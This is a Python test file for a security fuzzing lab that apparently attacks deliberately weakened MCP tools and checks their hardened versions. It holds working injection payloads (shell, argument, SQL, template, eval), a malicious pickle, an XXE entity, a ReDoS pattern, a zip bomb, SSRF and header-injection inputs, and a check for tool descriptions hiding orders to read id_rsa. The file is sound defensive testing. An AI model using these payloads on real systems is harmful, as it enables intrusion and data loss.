@@ -1,0 +1,353 @@
+"""Every attack weakness of the lab shows when it is driven by hand, and its hardened twin does not.
+
+Each demonstration works inside a temporary folder, on the loopback interface, and harms nothing.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import pickle
+import socket
+import threading
+import zlib
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from mcpfuzz.lab import weaknesses
+from mcpfuzz.lab.drive import Ended, Late, Named
+
+WAIT_S = 2.5
+SECRET = "canary-4711"
+
+
+@dataclass
+class World:
+    """What lies around the lab: a workspace, a decoy beside it, a listener."""
+
+    folder: Path
+    upstream: str
+    heard: list[bytes] = field(default_factory=list)
+
+    @property
+    def workspace(self) -> Path:
+        return self.folder / "shop"
+
+    @property
+    def decoy(self) -> Path:
+        return self.folder / "decoy.txt"
+
+
+@pytest.fixture
+def world(tmp_path: Path) -> Iterator[World]:
+    (tmp_path / "shop").mkdir()
+    (tmp_path / "shop-private").mkdir()
+    for name in ("decoy.txt", "shop-private/decoy.txt"):
+        (tmp_path / name).write_text(f"{SECRET}\n", encoding="utf-8")
+    (tmp_path / "shop" / "readme.txt").write_text("b\na\n", encoding="utf-8")
+    (tmp_path / "shop" / "link").symlink_to(tmp_path / "decoy.txt")
+    server = socket.create_server(("127.0.0.1", 0))
+    made = World(tmp_path, f"http://127.0.0.1:{server.getsockname()[1]}")
+
+    def listen() -> None:
+        while True:
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                return
+            with connection:
+                made.heard.append(connection.recv(65536))
+                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 11\r\nConnection: close\r\n\r\n" + SECRET.encode())
+
+    thread = threading.Thread(target=listen, daemon=True)
+    thread.start()
+    yield made
+    server.shutdown(socket.SHUT_RDWR)
+    server.close()
+    thread.join(5)
+
+
+Demonstration = Callable[[Named, World], bool]
+DEMONSTRATIONS: dict[str, Demonstration] = {}
+
+
+def demonstrates(name: str) -> Callable[[Demonstration], Demonstration]:
+    def register(demonstration: Demonstration) -> Demonstration:
+        DEMONSTRATIONS[name] = demonstration
+        return demonstration
+
+    return register
+
+
+# ---- files and programs ------------------------------------------------------------------------------
+
+
+@demonstrates("path-traversal")
+def a_file_outside_is_read(lab: Named, world: World) -> bool:
+    assert lab.say("read_file", path="readme.txt") == "b\na\n"
+    up, absolute = lab.say("read_file", path="../decoy.txt"), lab.say("read_file", path=str(world.decoy))
+    assert (SECRET in up) is (SECRET in absolute)
+    return SECRET in up
+
+
+@demonstrates("prefix-escape")
+def a_neighbour_folder_is_read(lab: Named, world: World) -> bool:
+    assert SECRET not in lab.say("read_document", path="../decoy.txt")
+    return SECRET in lab.say("read_document", path="../shop-private/decoy.txt")
+
+
+@demonstrates("symlink-escape")
+def a_link_is_followed(lab: Named, world: World) -> bool:
+    assert SECRET not in lab.say("preview_file", path="../decoy.txt")
+    return SECRET in lab.say("preview_file", path="link")
+
+
+@demonstrates("path-write")
+def a_file_outside_is_written(lab: Named, world: World) -> bool:
+    lab.say("save_file", path="inside/new.txt", text="x")
+    assert (world.workspace / "inside" / "new.txt").read_text(encoding="utf-8") == "x"
+    lab.say("save_file", path="../made.txt", text=SECRET)
+    return (world.folder / "made.txt").exists()
+
+
+@demonstrates("command-injection")
+def a_second_command_runs(lab: Named, world: World) -> bool:
+    assert lab.say("count_lines", path="readme.txt").startswith("2")
+    lab.say("count_lines", path="readme.txt; echo x > made.txt")
+    return (world.workspace / "made.txt").exists()
+
+
+@demonstrates("argument-injection")
+def a_file_name_is_an_option(lab: Named, world: World) -> bool:
+    assert lab.say("sort_lines", path="readme.txt") == "a\nb\n"
+    lab.say("sort_lines", path="-omade.txt")
+    return (world.workspace / "made.txt").exists()
+
+
+# ---- SQL ---------------------------------------------------------------------------------------------
+
+
+@demonstrates("sql-injection")
+def a_quote_opens_the_statement(lab: Named, world: World) -> bool:
+    assert "Ada" in lab.say("find_customer", name="Ada Brandt")
+    assert "Edda" not in lab.say("find_customer", name="Edda Falk")
+    true, false = (lab.say("find_customer", name=f"Ada Brandt' AND '1'='{digit}") for digit in "12")
+    assert (true != false) is ("Edda" in lab.say("find_customer", name="x' OR hidden = 1 --"))
+    return true != false
+
+
+@demonstrates("sql-injection-number")
+def a_condition_follows_the_number(lab: Named, world: World) -> bool:
+    number = lab.example("get_invoice", "number")
+    assert number in lab.say("get_invoice", number=number)
+    true, false = (lab.say("get_invoice", number=f"{number} AND 1={digit}") for digit in "12")
+    return true != false
+
+
+@demonstrates("sql-read-only")
+def a_query_writes(lab: Named, world: World) -> bool:
+    count = "SELECT count(*) FROM customers"
+    before = lab.say("query_records", sql=count)
+    assert before == '[["6"]]'
+    lab.say("query_records", sql="DROP TABLE customers")
+    lab.say("query_records", sql="SELECT 1; DELETE FROM customers WHERE id = 1")
+    lab.say("query_records", sql="WITH two AS (SELECT 2) DELETE FROM customers WHERE id = 2")
+    after = lab.say("query_records", sql=count)
+    assert after in ('[["6"]]', '[["4"]]')
+    return before != after
+
+
+@demonstrates("mass-assignment")
+def a_role_is_assigned(lab: Named, world: World) -> bool:
+    lab.say("update_profile", user="ada", city="Ulm", role="admin")
+    shown = json.loads(lab.say("get_profile", user="ada"))
+    return bool(shown["role"] == "admin")
+
+
+@demonstrates("data-exposure")
+def a_hash_is_shown(lab: Named, world: World) -> bool:
+    return "pbkdf2" in lab.say("get_profile", user="bruno")
+
+
+@demonstrates("unbounded-limit")
+def an_answer_grows_with_the_limit(lab: Named, world: World) -> bool:
+    return len(lab.say("price_history", days=200_000)) > 1_000_000
+
+
+# ---- formats and evaluation --------------------------------------------------------------------------
+
+
+@demonstrates("code-evaluation")
+def an_expression_is_python(lab: Named, world: World) -> bool:
+    assert lab.say("calculate", expression="7*7") == "49"
+    return lab.say("calculate", expression="__import__('os').getpid()") == str(lab.process.pid)
+
+
+@demonstrates("template-injection")
+def a_template_is_python(lab: Named, world: World) -> bool:
+    assert lab.say("render_message", template="To {{name}}", name="Ada") == "To Ada"
+    return lab.say("render_message", template="{{ 1234 * 4321 }}", name="Ada") == str(1234 * 4321)
+
+
+class Touch:
+    """Pickles to a call that makes a folder."""
+
+    def __init__(self, path: Path) -> None:
+        self.path = str(path)
+
+    def __reduce__(self) -> tuple[object, ...]:
+        return (os.mkdir, (self.path,))
+
+
+@demonstrates("deserialisation")
+def a_pickle_is_run(lab: Named, world: World) -> bool:
+    assert lab.say("restore_snapshot", data=lab.say("take_snapshot", heading="May")) == 'Restored "May".'
+    lab.say("restore_snapshot", data=base64.b64encode(pickle.dumps(Touch(world.folder / "made"))).decode())
+    return (world.folder / "made").exists()
+
+
+@demonstrates("xml-entity")
+def an_entity_is_fetched(lab: Named, world: World) -> bool:
+    assert lab.say("import_feed", xml="<feed><item>a</item></feed>") == "a"
+    entity = f'<!DOCTYPE feed [<!ENTITY x SYSTEM "{world.decoy.as_uri()}">]>'
+    return SECRET in lab.say("import_feed", xml=f"{entity}<feed><item>&x;</item></feed>")
+
+
+@demonstrates("redos")
+def a_pattern_takes_years(lab: Named, world: World) -> bool:
+    lab.say("match_pattern", pattern="k*n", text="kiln")
+    asked = lab.post_call("match_pattern", pattern="(a+)+$", text="a" * 60 + "!")
+    try:
+        lab.answer(asked, WAIT_S)
+    except Late:
+        return True
+    return False
+
+
+@demonstrates("zip-bomb")
+def packed_zeros_are_unpacked(lab: Named, world: World) -> bool:
+    bomb = base64.b64encode(zlib.compress(bytes(50_000_000), 9)).decode()
+    return "50000000 bytes" in lab.say("unpack", data=bomb)
+
+
+# ---- other servers -----------------------------------------------------------------------------------
+
+
+@demonstrates("ssrf")
+def a_loopback_url_is_fetched(lab: Named, world: World) -> bool:
+    assert "nine" in lab.say("fetch_page", url="https://pottery.example/hours")
+    return SECRET in lab.say("fetch_page", url=f"{world.upstream}/x") and world.heard[0].startswith(b"GET /x ")
+
+
+@demonstrates("upstream-path")
+def an_id_leaves_its_path(lab: Named, world: World) -> bool:
+    assert SECRET in lab.say("article_details", article="A-100") and b"GET /articles/A-100 " in world.heard[0]
+    lab.say("article_details", article="../admin")
+    lab.say("article_details", article="1?all=1")
+    return any(b"/../admin " in request for request in world.heard) and any(b"?all=1" in line for line in world.heard)
+
+
+@demonstrates("header-injection")
+def a_topic_is_two_headers(lab: Named, world: World) -> bool:
+    assert "passed on" in lab.say("pass_note", topic="Prices", text="Hello")
+    assert b"X-Topic: Prices\r\n" in world.heard[0]
+    lab.say("pass_note", topic="a\r\nX-Admin: yes", text="Hello")
+    return any(b"\r\nX-Admin: yes\r\n" in request for request in world.heard)
+
+
+# ---- state and listing -------------------------------------------------------------------------------
+
+
+@demonstrates("use-after-delete")
+def a_deleted_document_answers(lab: Named, world: World) -> bool:
+    key = lab.say("create_document", text=SECRET)
+    assert SECRET in lab.say("get_document", id=key)
+    lab.say("delete_document", id=key)
+    return SECRET in lab.say("get_document", id=key)
+
+
+@demonstrates("replay")
+def a_voucher_is_good_twice(lab: Named, world: World) -> bool:
+    code = lab.say("issue_voucher", amount=20)
+    assert lab.say("redeem_voucher", code=code) == "Redeemed 20, the credit is 20."
+    return "the credit is 40" in lab.say("redeem_voucher", code=code)
+
+
+@demonstrates("race")
+def a_ticket_lets_several_in(lab: Named, world: World) -> bool:
+    code = lab.say("issue_ticket")
+    asked = {lab.post_call("use_ticket", code=code) for _ in range(4)}
+    answers = [message for message in (lab.next() for _ in range(4)) if message["id"] in asked]
+    assert len(answers) == 4 and lab.tell("use_ticket", code=code)["result"]["isError"]
+    return sum(not answer["result"]["isError"] for answer in answers) > 1
+
+
+@demonstrates("dry-run-writes")
+def a_dry_run_is_not_dry(lab: Named, world: World) -> bool:
+    assert lab.say("tidy_drafts", dry_run=True) == "3 drafts."
+    return lab.say("tidy_drafts", dry_run=True) == "0 drafts."
+
+
+@demonstrates("annotation-lies")
+def a_reader_leaves_a_mark(lab: Named, world: World) -> bool:
+    key = lab.say("create_document", text="text")
+    before = lab.say("get_document", id=key)
+    lab.say("document_info", id=key)
+    return before != lab.say("get_document", id=key)
+
+
+@demonstrates("hidden-tool")
+def an_unlisted_tool_answers(lab: Named, world: World) -> bool:
+    assert lab.names["grant_credit"][0] not in lab.schemas
+    return "Granted" in str(lab.tell("grant_credit", amount=5).get("result"))
+
+
+@demonstrates("poisoned-description")
+def a_description_holds_orders(lab: Named, world: World) -> bool:
+    text = description(lab, "greet")
+    spelt = "".join(chr(ord(letter) - 0xE0000) if ord(letter) > 0xE0000 else letter for letter in text)
+    return "id_rsa" in spelt.replace("\u200b", "")
+
+
+@demonstrates("listing-changes")
+def a_description_changes(lab: Named, world: World) -> bool:
+    return len({description(lab, "daily_special") for _ in range(4)}) > 1
+
+
+def description(lab: Named, tool: str) -> str:
+    """What the listing says of a tool now."""
+    cursor: dict[str, str] = {}
+    while True:
+        page = lab.request("tools/list", cursor)["result"]
+        for entry in page["tools"]:
+            if entry["name"] == lab.names[tool][0]:
+                return str(entry["description"])
+        cursor = {"cursor": page["nextCursor"]}
+
+
+ATTACKS = [weakness.name for weakness in weaknesses() if weakness.group == "attack"]
+
+
+@pytest.mark.parametrize("seed", [None, "1", "amber"])
+@pytest.mark.parametrize("name", ATTACKS)
+@pytest.mark.parametrize("weak", [True, False])
+def test_a_weakness_shows_and_its_hardened_twin_does_not(world: World, name: str, seed: str | None, weak: bool) -> None:
+    switch = ("--weakness", name) if weak else ("--toolset", "all")
+    with Named(*switch, "--workspace", str(world.workspace), shuffle=seed, env={"UPSTREAM": world.upstream}) as lab:
+        assert DEMONSTRATIONS[name](lab, world) is weak
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+@pytest.mark.parametrize("weak", [True, False])
+def test_a_weakness_shows_among_all_others_and_they_do_not_show_it(world: World, name: str, weak: bool) -> None:
+    switches = ["--weakness", "all"] if weak else ["--weakness", "all", "--except", name]
+    with Named(*switches, "--workspace", str(world.workspace), env={"UPSTREAM": world.upstream}) as lab:
+        try:
+            shown = DEMONSTRATIONS[name](lab, world)
+        except Ended:
+            pytest.fail(lab.stderr)
+        assert shown is weak
